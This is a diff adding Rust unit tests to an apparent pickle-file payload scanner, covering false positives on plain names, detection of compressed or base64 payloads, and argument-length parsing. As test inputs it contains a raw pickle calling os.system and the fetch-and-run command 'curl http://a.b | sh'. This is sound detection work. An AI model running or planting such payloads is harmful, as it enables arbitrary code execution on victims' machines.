@@ -250,6 +250,47 @@ fn random_bytes_are_no_payloads() {
 }
 
 #[test]
+fn names_and_words_are_no_payloads() {
+    for plain in ["GaussianProcessClassifier", "GaussianProcessRegressor", "GradientBoostingClassifier"] {
+        for outer in [Assembler::new(4).text(plain), Assembler::new(4).bytes(plain.as_bytes())] {
+            assert_eq!(read(&outer.finish()).children.len(), 0, "{plain}");
+        }
+    }
+    for name in include_str!("names.rs").split('"').filter(|name| !name.is_empty() && name.len() < 200) {
+        assert_eq!(read(&Assembler::new(4).text(name).finish()).children.len(), 0, "{name}");
+    }
+}
+
+#[test]
+fn a_compressed_payload_becomes_a_child_however_short() {
+    use base64::Engine as _;
+    use std::io::Write as _;
+    for content in [&b"import os"[..], &[b'x'; 9000]] {
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+        encoder.write_all(content).unwrap();
+        let packed = encoder.finish().unwrap();
+        let text = base64::engine::general_purpose::STANDARD.encode(&packed);
+        let bytes = Assembler::new(4).bytes(&packed).finish();
+        assert_eq!(read(&bytes).children.len(), 1, "{packed:?}");
+        if text.len() >= 24 {
+            assert_eq!(read(&Assembler::new(4).text(&text).finish()).children.len(), 1, "{text}");
+        }
+    }
+}
+
+#[test]
+fn the_length_of_a_text_is_that_of_its_content() {
+    for (text, len) in [("id".to_owned(), 2), ("a\\x41".to_owned(), 2), ("y".repeat(300), 300)] {
+        let line = format!("cos\nsystem\n(S'{text}'\ntR.");
+        let facts = clean(line.as_bytes());
+        assert!(
+            matches!(facts.calls[0].arguments[0], Shape::Text { len: found, .. } if found == len),
+            "{line}"
+        );
+    }
+}
+
+#[test]
 fn literals_show_commands_and_addresses_but_not_words() {
     let striking = clean(&Assembler::new(4).text("curl http://a.b | sh").finish());
     assert_eq!(striking.literals.len(), 1);
